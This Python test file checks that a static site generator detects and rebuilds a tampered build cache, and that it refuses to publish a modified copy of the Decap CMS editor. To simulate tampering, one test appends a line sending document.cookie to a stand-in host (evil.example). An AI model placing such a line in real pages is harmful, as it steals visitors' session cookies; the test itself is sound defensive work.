"""Hostile conditions, class 6 of issue 24: the cache is never trusted blindly.

A processed picture or a part of the search index changed in the cache is noticed (by its
digest) and made again, with a warning, never published; the built /pagefind/ files are copies,
so editing the built site cannot change the cache; a cache folder that cannot be read or written
(a read-only one, one left by another user) gives a warning and a correct site, and the build
then keeps its cache in a private temporary folder, never in a predictable one; the editor's
pinned Decap CMS is checked every time it is published.

Running as root, permissions deny nothing: the builds that need a refusal run with the
capabilities that let root ignore them dropped (`setpriv`), on folders owned by another user.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import MINIMAL_SITE, image_bytes, write_files

IN_CI = os.environ.get("CI", "").lower() in ("1", "true", "yes")
BUILD = [sys.executable, "-c", "import sys; from sitegen.cli.main import run_console; sys.argv[0] = 'sitegen'; run_console()", "build"]
NOWHERE = "http://127.0.0.1:9"  # a registry that refuses at once: no test downloads anything

PICTURE_HUB: dict[str, str | bytes] = {
    "site.yaml": MINIMAL_SITE + "admin: false\n",
    "content/about.md": "---\ntitle: About\n---\nOur visit.\n\n![Pupils planting a tree](/img/visit.png)\n",
    "content/resources/plan.md": "---\ntitle: A lesson plan\nkey_stages: [KS2]\n---\nA plan about trees.\n",
    "static/img/visit.png": image_bytes("PNG", (900, 600)),
}


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def needs_search() -> None:
    from sitegen.search.pagefind import unavailable

    why = unavailable()
    if why:
        if IN_CI:
            pytest.fail(f"search tests cannot run in CI: {why}")
        pytest.skip(why)


def build(root: Path, *args: str, env: dict[str, str] | None = None, restricted: bool = False) -> subprocess.CompletedProcess[str]:
    command = [*BUILD, *args, str(root)]
    if restricted and os.geteuid() == 0:  # root reads and writes anything: drop the capabilities that let it
        command = ["setpriv", "--bounding-set=-dac_override,-dac_read_search", *command]
    result = subprocess.run(command, capture_output=True, text=True, timeout=300, env={**os.environ, "SITEGEN_NPM_REGISTRY": NOWHERE, **(env or {})})
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
    return result


def deny(path: Path, mode: int) -> None:
    """Make `path` refuse this user: owned by someone else when running as root, with `mode` (0o555
    read-only, 0 nothing at all). `allow` undoes it so that pytest can clean up."""
    if os.geteuid() == 0:
        if not shutil.which("setpriv"):
            if IN_CI:
                pytest.fail("setpriv is needed to test permissions as root")
            pytest.skip("setpriv is needed to test permissions as root")
        os.chown(path, 65534, 65534)
    path.chmod(mode)


def allow(path: Path) -> None:
    path.chmod(0o755)


def warnings(result: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.endswith("(warning)")]


# A damaged picture in the cache -------------------------------------------------------------

def test_a_damaged_picture_in_the_cache_is_made_again(tmp_path: Path) -> None:
    root = write_files(tmp_path / "hub", PICTURE_HUB)
    first = build(root)
    assert first.returncode == 0, first.stderr
    good = snapshot(root / "_site")
    entries = sorted(p for p in (root / ".sitegen-cache" / "images").rglob("*.webp"))
    assert entries, "the pictures are processed into the cache"
    entries[0].write_bytes(b"RIFF\x00\x00\x00\x00WEBPnot a picture at all")
    write_files(root, {"content/about.md": PICTURE_HUB["content/about.md"] + "\nMore words.\n"})  # a rebuild that writes
    shutil.rmtree(root / "_site")  # every file written again
    second = build(root)
    assert second.returncode == 0, second.stderr
    assert warnings(second) == [f"{entries[0]}: a processed picture in the cache had been changed or damaged; it was made again (warning)"]
    after = snapshot(root / "_site")
    assert {f: after[f] for f in after if f.startswith("img/")} == {f: good[f] for f in good if f.startswith("img/")}
    third = build(root, "-o", str(tmp_path / "again"))
    assert third.returncode == 0 and warnings(third) == [], "the entry was repaired"


# The search index: copies in the site, checked in the cache ------------------------------------

def test_editing_the_built_index_does_not_change_the_cache(tmp_path: Path) -> None:
    needs_search()
    root = write_files(tmp_path / "hub", PICTURE_HUB)
    assert build(root).returncode == 0
    store = root / ".sitegen-cache" / "search"
    stored = snapshot(store)
    for path in (root / "_site" / "pagefind").rglob("*"):
        if path.is_file():
            with path.open("r+b") as f:  # edited in place, as an editor or a careless script would
                f.write(b"X")
    assert snapshot(store) == stored, "the cache is not changed through the built site"


def test_a_damaged_search_index_in_the_cache_is_made_again(tmp_path: Path) -> None:
    needs_search()
    root = write_files(tmp_path / "hub", PICTURE_HUB)
    assert build(root).returncode == 0
    good = snapshot(root / "_site" / "pagefind")
    part = next(p for p in (root / ".sitegen-cache" / "search").iterdir() if p.is_dir())
    damaged = next(p for p in sorted(part.rglob("*.pf_fragment")))
    damaged.write_bytes(b"\x1f\x8b not a fragment")
    again = build(root, "-o", str(tmp_path / "other"))  # a new output: the index is taken from the cache
    assert again.returncode == 0, again.stderr
    assert warnings(again) == [f"{part}: a part of the search index in the cache had been changed or damaged; it was made again (warning)"]
    assert snapshot(tmp_path / "other" / "pagefind") == good


# A cache folder that cannot be used -------------------------------------------------------------

@pytest.mark.parametrize("mode", [0o555, 0], ids=["read-only", "unreadable"])
def test_a_cache_folder_that_cannot_be_used_gives_a_warning_and_the_site(tmp_path: Path, mode: int) -> None:
    reference = write_files(tmp_path / "reference", PICTURE_HUB)
    assert build(reference).returncode == 0
    root = write_files(tmp_path / "hub", PICTURE_HUB)
    cache = root / ".sitegen-cache"
    cache.mkdir()
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    deny(cache, mode)
    try:
        result = build(root, env={"TMPDIR": str(temporary)}, restricted=True)
    finally:
        allow(cache)
    assert result.returncode == 0, result.stderr
    assert warnings(result) == [f"{cache}: the cache folder cannot be read and written (Permission denied): this build keeps its cache "
                                "in a private temporary folder instead, so the next build will take longer (check the permissions of "
                                "cache_dir) (warning)"]
    assert snapshot(root / "_site") == snapshot(reference / "_site")
    assert list(temporary.iterdir()) == [], "the private folder is removed, and no predictable one is made"


def test_an_unreadable_user_cache_leaves_the_editor_out_with_a_warning(tmp_path: Path) -> None:
    root = write_files(tmp_path / "hub", {**PICTURE_HUB, "site.yaml": MINIMAL_SITE})
    home = tmp_path / "home"
    user_cache = home / ".cache" / "sitegen"
    user_cache.mkdir(parents=True)
    deny(user_cache, 0)
    env = {"HOME": str(home), "XDG_CACHE_HOME": "", "SITEGEN_CACHE": ""}
    try:
        result = build(root, env=env, restricted=True)
    finally:
        allow(user_cache)
    assert result.returncode == 0, result.stderr
    folder = user_cache / "decap-cms-"
    assert warnings(result) == [
        f"site.yaml: admin: the editor at /admin/ is left out of this build: the copy of Decap CMS in {folder}3.16.3 cannot be read "
        f"(Permission denied); cannot keep Decap CMS in {user_cache} (Permission denied). It comes back once 'python -m "
        "sitegen.editor.decap' has downloaded Decap CMS 3.16.3; 'admin: false' silences this (warning)"]
    assert (root / "_site" / "about" / "index.html").is_file() and not (root / "_site" / "admin").exists()


# The pinned editor script -------------------------------------------------------------------

@pytest.mark.parametrize("victim", ["decap-cms.js", "a chunk"])
def test_a_changed_editor_script_is_never_published(tmp_path: Path, victim: str) -> None:
    from sitegen.editor import decap

    if not decap.cached_files():
        if IN_CI:
            pytest.fail("Decap CMS is not downloaded (python -m sitegen.editor.decap)")
        pytest.skip("Decap CMS is not downloaded (python -m sitegen.editor.decap)")
    copy = tmp_path / "cache"
    shutil.copytree(decap.folder(), copy / decap.folder().name)
    dist = copy / decap.folder().name / "dist"
    name = decap.SCRIPT if victim == "decap-cms.js" else next(p.name for p in sorted(dist.iterdir()) if p.name.endswith(".decap-cms.js"))
    with (dist / name).open("a") as f:
        f.write("\nfetch('https://evil.example/?' + document.cookie);\n")
    root = write_files(tmp_path / "hub", {**PICTURE_HUB, "site.yaml": MINIMAL_SITE})
    result = build(root, env={"SITEGEN_CACHE": str(copy)})
    assert result.returncode == 0, result.stderr
    assert warnings(result) == [
        f"site.yaml: admin: the editor at /admin/ is left out of this build: the copy of Decap CMS in {copy / decap.folder().name} is not "
        f"the pinned version (its files were changed); cannot download {NOWHERE}/decap-cms/-/decap-cms-{decap.VERSION}.tgz "
        f"([Errno 111] Connection refused). It comes back once 'python -m sitegen.editor.decap' has downloaded Decap CMS "
        f"{decap.VERSION}; 'admin: false' silences this (warning)"]
    assert not (root / "_site" / "admin").exists(), "nothing of the changed copy is published"
